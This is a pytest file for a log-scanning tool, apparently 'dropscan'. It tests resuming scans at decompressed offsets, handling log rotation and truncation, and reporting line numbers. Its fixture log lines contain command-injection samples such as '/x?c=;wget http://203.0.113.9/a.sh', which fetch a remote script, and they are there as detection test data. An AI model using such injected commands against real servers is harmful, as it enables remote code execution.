"""The engine hook for incremental runs: start a source at a decompressed offset with a line base,
and report where the scan stopped (always just past a complete line)."""

from __future__ import annotations

import gzip
import os

import pytest

from conftest import combined_line
from dropscan import engine
from dropscan.engine import Scan, ScanOptions
from dropscan.sources.files import READ_SIZE, Resume, Source, open_blocks, read_chunks, read_head

ATTACK = combined_line("/x?c=;wget http://203.0.113.9/a.sh", client="203.0.113.77")
CLEAN = combined_line("/index.html")
DATA = CLEAN * 3 + ATTACK + CLEAN + ATTACK  # attacks on lines 4 and 6


@pytest.mark.parametrize("compress", [False, True])
def test_open_blocks_starts_at_the_decompressed_offset(tmp_path, compress):
    p = tmp_path / ("access.log.2.gz" if compress else "access.log")
    p.write_bytes(gzip.compress(DATA) if compress else DATA)
    for off in (0, 1, len(CLEAN), len(DATA) - 1, len(DATA), len(DATA) + 10):
        got = b"".join(open_blocks(Source(str(p), Resume(offset=off))))
        assert got == DATA[off:], off


def test_the_file_opened_when_planned_is_read_whatever_its_name(tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(DATA)
    fd = os.open(p, os.O_RDONLY)
    try:
        os.rename(p, tmp_path / "access.log.1")  # rotated between planning and reading
        p.write_bytes(CLEAN)
        assert b"".join(open_blocks(Source(str(p), Resume(offset=10, fd=fd)))) == DATA[10:]
        run = Scan([], sources=[Source(str(p), Resume(offset=len(CLEAN), line=1, fd=fd, head=DATA[:100]))])
        assert [f.line_no for f in run] == [4, 6] and (run.files[0].end, run.files[0].finished) == (len(DATA), True)
    finally:
        os.close(fd)


def test_reading_stops_where_the_file_was_truncated_and_refilled(tmp_path):
    """copytruncate while a run reads the file: a block read after the truncation may hold the
    new content at the old offsets; it is dropped (the old rest is in the copy)."""
    p = tmp_path / "access.log"
    old = CLEAN * (3 * READ_SIZE // len(CLEAN))
    p.write_bytes(old)
    fd = os.open(p, os.O_RDONLY)
    try:
        blocks = open_blocks(Source(str(p), Resume(fd=fd, head=old[:64])))
        first = next(blocks)
        assert old.startswith(first) and len(first) >= READ_SIZE
        with open(p, "r+b") as fh:  # truncated and refilled past the read position
            fh.truncate(0)
            fh.write(ATTACK * (len(old) // len(ATTACK)))
        assert list(blocks) == []
    finally:
        os.close(fd)


def test_read_chunks_can_hold_back_a_line_being_written():
    blocks = [b"a\nb\n", b"half a li"]
    assert list(read_chunks(iter(blocks), 2)) == [(b"a\nb\n", 0), (b"half a li", 4)]
    assert list(read_chunks(iter(blocks), 2, keep_partial=False)) == [(b"a\nb\n", 0)]
    assert list(read_chunks(iter([b"x\nno newline"]), 100, 7, keep_partial=False)) == [(b"x\n", 7)]
    assert list(read_chunks(iter([b"no newline"]), 100, keep_partial=False)) == []


def test_read_head_decompresses_little_from_a_path_or_a_descriptor(tmp_path):
    big = CLEAN * 5000
    gz = tmp_path / "a.gz"
    gz.write_bytes(gzip.compress(big[:700]) + gzip.compress(big[700:]))  # two members
    assert read_head(str(gz), 1024) == big[:1024]
    plain = tmp_path / "a.log"
    plain.write_bytes(b"short\n")
    assert read_head(str(plain), 1024) == b"short\n"
    fd = os.open(plain, os.O_RDONLY)
    try:
        os.read(fd, 3)  # wherever the descriptor is, the head is the file's start
        assert read_head(fd, 1024) == b"short\n"
    finally:
        os.close(fd)


@pytest.mark.parametrize("compress", [False, True])
def test_scan_resumes_with_absolute_line_numbers_and_reports_the_end(tmp_path, compress, monkeypatch):
    monkeypatch.setattr(engine, "POOL_MIN_BYTES", 0)  # --jobs would take the pool for any input size
    p = tmp_path / ("access.log.1.gz" if compress else "access.log")
    tail = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET /?c=;wget http://203.0.113.9/b'  # being written
    body = DATA + (b"" if compress else tail)
    p.write_bytes(gzip.compress(body) if compress else body)
    start = len(CLEAN) * 3  # after line 3
    fd = os.open(p, os.O_RDONLY)
    src = Source(str(p), Resume(offset=start, line=3, fd=fd, keep_partial=compress, format="combined"))
    run = Scan([], ScanOptions(jobs=4), sources=[src])
    try:
        found = list(run)
    finally:
        os.close(fd)
    assert [(f.line_no, f.offset) for f in found] == [(4, start), (6, start + len(ATTACK) + len(CLEAN))]
    s = run.files[0]
    assert (s.lines, s.format, s.error) == (3, "combined", None)
    assert s.end == len(DATA)  # the unterminated line is left for the next run


def test_scan_without_resume_is_unchanged(tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(DATA + b"no newline at the end")
    run = Scan([str(p)])
    assert [f.line_no for f in run] == [4, 6]
    assert (run.files[0].lines, run.files[0].end) == (7, len(DATA) + len(b"no newline at the end"))
